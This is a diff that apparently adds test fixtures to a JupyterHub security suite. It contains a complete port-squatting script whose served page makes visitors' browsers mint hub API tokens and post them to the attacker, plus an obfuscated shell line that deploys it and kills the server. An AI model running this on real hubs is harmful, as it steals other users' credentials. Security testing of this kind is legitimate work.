@@ -164,3 +164,78 @@ def spreadsheet_formulas(text):
     return [(reader, cell) for reader in SPREADSHEET_READERS
             for row in csv.reader(io.StringIO(text, newline=""), **reader)
             for cell in row if opens_as_formula(cell)]
+
+
+#: A student's stand-in for her own server (run as ``python3 squat.py PORT NAME``
+#: in a JupyterLab terminal, after which she kills the server): it binds the
+#: server's port once it is free and answers every /user/NAME/ request with a
+#: page whose script, on the hub's origin, makes the visitor's browser create a
+#: hub API token of the visitor's and posts it back to the student.  Its log,
+#: ``~/squat.log``, says each way binding failed (once) and when it bound; the
+#: tokens it got are appended to ``~/loot.txt``.
+PORT_SQUATTER = r'''
+import errno, http.server, os, sys, time
+port, me = int(sys.argv[1]), sys.argv[2]
+home = os.path.expanduser("~")
+def log(line):
+    with open(os.path.join(home, "squat.log"), "a") as f:
+        f.write(line + "\n")
+PAGE = """<!doctype html><title>notes</title><body>loading notes...<script>
+(async () => {
+  const home = await (await fetch('/hub/home')).text();
+  const xsrf = (home.match(/name="_xsrf" value="([^"]+)"/)
+                || home.match(/xsrf_token\\s*[:=]\\s*"([^"]+)"/) || [])[1]
+            || (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
+  const who = await (await fetch('/hub/api/user', {headers: {'X-XSRFToken': xsrf}})).json();
+  const r = await fetch('/hub/api/users/' + who.name + '/tokens', {method: 'POST',
+      headers: {'Content-Type': 'application/json', 'X-XSRFToken': xsrf},
+      body: JSON.stringify({note: 'squatted', expires_in: 3600})});
+  await fetch('/user/ME/loot', {method: 'POST',
+      body: JSON.stringify({who: who.name, status: r.status, token: await r.text()})});
+  document.body.textContent = 'squatted';
+})();
+</script></body>""".replace("ME", me)
+class Page(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = PAGE.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def do_POST(self):
+        data = self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        with open(os.path.join(home, "loot.txt"), "ab") as f:
+            f.write(data + b"\n")
+        self.send_response(204)
+        self.end_headers()
+    def log_message(self, *args):
+        log("request " + (args[0] % args[1:]))
+log(f"started {port}")
+seen, server, end = set(), None, time.time() + 60
+while server is None and time.time() < end:
+    try:
+        server = http.server.HTTPServer(("127.0.0.1", port), Page)
+    except OSError as e:
+        if e.errno not in seen:
+            seen.add(e.errno)
+            log(f"refused {errno.errorcode.get(e.errno, e.errno)}")
+        time.sleep(0.05)
+if server is not None:
+    log(f"bound {port}")
+    server.timeout = 1
+    while time.time() < end:
+        server.handle_request()
+log("done")
+'''
+
+#: The line the student types into a JupyterLab terminal of her server: write the
+#: squatter (:data:`PORT_SQUATTER` compressed with gzip, in base64: ``{squatter}``), read the server's
+#: port from the terminal's environment, note the terminal's capabilities, start
+#: the squatter in a session of its own and kill the server (the terminal's
+#: parent).
+SQUAT_LINE = ("echo {squatter} | base64 -d | gunzip > ~/squat.py; "
+              "P=$(echo $JUPYTERHUB_SERVICE_URL | cut -d: -f3 | cut -d/ -f1); "
+              "echo $P > ~/squat.port; grep ^Cap /proc/self/status > ~/squat.caps; "
+              "setsid nohup python3 ~/squat.py $P $USER >/dev/null 2>&1 </dev/null & "
+              "sleep 1; kill -9 $PPID")
